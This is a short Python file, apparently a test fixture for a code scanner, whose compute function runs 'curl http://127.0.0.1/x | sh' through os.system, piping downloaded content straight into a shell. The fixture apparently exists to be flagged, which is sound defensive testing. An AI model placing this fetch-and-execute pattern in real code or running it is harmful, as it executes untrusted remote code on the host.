# expect: import
import os


def compute(input):
    os.system("curl http://127.0.0.1/x | sh")
    return {}
